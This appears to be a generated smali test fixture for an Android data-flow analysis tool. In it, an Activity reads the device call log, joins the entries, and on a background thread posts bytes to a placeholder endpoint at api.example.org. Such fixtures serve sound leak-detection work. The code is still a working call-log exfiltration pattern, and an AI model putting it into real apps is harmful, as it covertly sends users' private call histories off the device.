# Made by tests/cases/compile.py
.class public final Lcases/flow_kotlin_thread/Main;
.super Landroid/app/Activity;

.method public constructor <init>()V
    .registers 1
    invoke-direct {p0}, Landroid/app/Activity;-><init>()V
    return-void
.end method

.method protected onCreate(Landroid/os/Bundle;)V
    .registers 12
    invoke-super {p0, p1}, Landroid/app/Activity;->onCreate(Landroid/os/Bundle;)V
    invoke-direct {p0}, Lcases/flow_kotlin_thread/Main;->entries()Ljava/util/List;
    move-result-object v1
    check-cast v1, Ljava/lang/Iterable;
    const-string v2, ";"
    check-cast v2, Ljava/lang/CharSequence;
    const/4 v3, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    const/4 v6, 0x0
    sget-object v7, Lcases/flow_kotlin_thread/Main$onCreate$text$1;->INSTANCE:Lcases/flow_kotlin_thread/Main$onCreate$text$1;
    check-cast v7, Lkotlin/jvm/functions/Function1;
    const/16 v8, 0x1e
    const/4 v9, 0x0
    invoke-static/range {v1 .. v9}, Lkotlin/collections/CollectionsKt;->joinToString$default(Ljava/lang/Iterable;Ljava/lang/CharSequence;Ljava/lang/CharSequence;Ljava/lang/CharSequence;ILjava/lang/CharSequence;Lkotlin/jvm/functions/Function1;ILjava/lang/Object;)Ljava/lang/String;
    move-result-object v0
    const/4 v1, 0x0
    const/4 v2, 0x0
    const/4 v3, 0x0
    const/4 v4, 0x0
    const/4 v5, 0x0
    new-instance v6, Lcases/flow_kotlin_thread/Main$onCreate$1;
    invoke-direct {v6, p0, v0}, Lcases/flow_kotlin_thread/Main$onCreate$1;-><init>(Lcases/flow_kotlin_thread/Main;Ljava/lang/String;)V
    check-cast v6, Lkotlin/jvm/functions/Function0;
    const/16 v7, 0x1f
    const/4 v8, 0x0
    invoke-static/range {v1 .. v8}, Lkotlin/concurrent/ThreadsKt;->thread$default(ZZLjava/lang/ClassLoader;Ljava/lang/String;ILkotlin/jvm/functions/Function0;ILjava/lang/Object;)Ljava/lang/Thread;
    return-void
.end method

.method private final entries()Ljava/util/List;
    .registers 10
    new-instance v0, Ljava/util/ArrayList;
    invoke-direct {v0}, Ljava/util/ArrayList;-><init>()V
    check-cast v0, Ljava/util/List;
    invoke-virtual {p0}, Lcases/flow_kotlin_thread/Main;->getContentResolver()Landroid/content/ContentResolver;
    move-result-object v3
    sget-object v4, Landroid/provider/CallLog$Calls;->CONTENT_URI:Landroid/net/Uri;
    const/4 v5, 0x0
    const/4 v6, 0x0
    const/4 v7, 0x0
    const/4 v8, 0x0
    invoke-virtual/range {v3 .. v8}, Landroid/content/ContentResolver;->query(Landroid/net/Uri;[Ljava/lang/String;Ljava/lang/String;[Ljava/lang/String;Ljava/lang/String;)Landroid/database/Cursor;
    move-result-object v1
    invoke-static {v1}, Lkotlin/jvm/internal/Intrinsics;->checkNotNull(Ljava/lang/Object;)V
    :l_1e
    invoke-interface {v1}, Landroid/database/Cursor;->moveToNext()Z
    move-result v2
    if-eqz v2, :l_52
    move-object v2, v0
    check-cast v2, Ljava/util/Collection;
    new-instance v3, Lcases/flow_kotlin_thread/Entry;
    const/4 v4, 0x0
    invoke-interface {v1, v4}, Landroid/database/Cursor;->getString(I)Ljava/lang/String;
    move-result-object v4
    const-string v5, "getString(...)"
    invoke-static {v4, v5}, Lkotlin/jvm/internal/Intrinsics;->checkNotNullExpressionValue(Ljava/lang/Object;Ljava/lang/String;)V
    const/4 v5, 0x1
    invoke-interface {v1, v5}, Landroid/database/Cursor;->getInt(I)I
    move-result v5
    invoke-direct {v3, v4, v5}, Lcases/flow_kotlin_thread/Entry;-><init>(Ljava/lang/String;I)V
    invoke-interface {v2, v3}, Ljava/util/Collection;->add(Ljava/lang/Object;)Z
    goto :l_1e
    :l_52
    return-object v0
.end method

.method private final send([B)V
    .registers 6
    new-instance v2, Ljava/net/URL;
    const-string v3, "https://api.example.org/v1/calls"
    invoke-direct {v2, v3}, Ljava/net/URL;-><init>(Ljava/lang/String;)V
    invoke-virtual {v2}, Ljava/net/URL;->openConnection()Ljava/net/URLConnection;
    move-result-object v0
    const-string v3, "null cannot be cast to non-null type java.net.HttpURLConnection"
    invoke-static {v0, v3}, Lkotlin/jvm/internal/Intrinsics;->checkNotNull(Ljava/lang/Object;Ljava/lang/String;)V
    check-cast v0, Ljava/net/HttpURLConnection;
    const/4 v2, 0x1
    invoke-virtual {v0, v2}, Ljava/net/HttpURLConnection;->setDoOutput(Z)V
    invoke-virtual {v0}, Ljava/net/HttpURLConnection;->getOutputStream()Ljava/io/OutputStream;
    move-result-object v1
    invoke-virtual {v1, p1}, Ljava/io/OutputStream;->write([B)V
    invoke-virtual {v1}, Ljava/io/OutputStream;->close()V
    return-void
.end method

.method public static final synthetic access$send(Lcases/flow_kotlin_thread/Main;[B)V
    .registers 2
    invoke-direct {p0, p1}, Lcases/flow_kotlin_thread/Main;->send([B)V
    return-void
.end method
